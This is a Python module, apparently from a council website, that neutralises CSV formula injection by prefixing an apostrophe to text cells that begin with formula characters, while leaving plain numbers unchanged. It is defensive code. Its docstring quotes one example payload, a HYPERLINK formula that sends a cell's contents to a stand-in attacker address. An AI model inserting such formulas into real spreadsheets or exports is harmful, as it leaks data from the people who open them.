"""Every CSV the site writes goes through `dict_writer` (or `safe_cell`), so that no cell can
be read as a formula when the file is opened in a spreadsheet.

A spreadsheet reads a cell beginning with `=`, `+`, `-` or `@` as a formula (and Excel also
after a leading tab or carriage return), and a formula can fetch addresses, run DDE commands
or leak the rest of the sheet: `=HYPERLINK("https://attacker/?"&A2, "Click")`. The names of
indicators, partners and organisations are typed in by people outside the council, so a text
cell starting with one of those characters gets a leading apostrophe, which spreadsheets
take as "this is text" and do not show (OWASP, "CSV Injection").

Numbers are left alone: `-3` in a change column is a number, not a formula, and stays one
(int, float and Decimal values, and text that is nothing but a plain decimal number, such as
"-25.0"). Only other text is neutralised.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Collection, Iterable, Mapping
from decimal import Decimal
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")

# A plain decimal number, signed or not, with an optional exponent: nothing a spreadsheet
# could run. Anything longer ("-1+1", "-2*cmd") is text and neutralised.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


class _Writable(Protocol):
    def write(self, s: str, /) -> object: ...


def safe_cell(value: object) -> object:
    """The value as a CSV cell no spreadsheet will run: text that could start a formula gets
    a leading apostrophe; numbers and other text are returned unchanged."""
    if isinstance(value, bool | int | float | Decimal) or not isinstance(value, str):
        return value
    if "\r" in value:
        # csv quotes a cell holding the line terminator ("\n") but not a lone CR, which a
        # reader takes as the end of the row: line breaks are written as "\n", quoted.
        value = value.replace("\r\n", "\n").replace("\r", "\n")
    if value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(row: Mapping[str, object]) -> dict[str, object]:
    return {key: safe_cell(value) for key, value in row.items()}


class SafeDictWriter:
    """A `csv.DictWriter` whose every cell, header included, goes through `safe_cell`."""

    def __init__(self, stream: _Writable, fieldnames: Collection[str], **options: Any) -> None:
        self.fieldnames = list(fieldnames)
        self._writer = csv.DictWriter(stream, fieldnames=self.fieldnames, **options)

    def writeheader(self) -> None:
        self.writerow({name: name for name in self.fieldnames})

    def writerow(self, row: Mapping[str, object]) -> None:
        self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Mapping[str, object]]) -> None:
        for row in rows:
            self.writerow(row)


def dict_writer(stream: _Writable, fieldnames: Collection[str], **options: Any) -> SafeDictWriter:
    """The one way to write CSV: a `csv.DictWriter` on `stream` that neutralises formulas."""
    return SafeDictWriter(stream, fieldnames, **options)
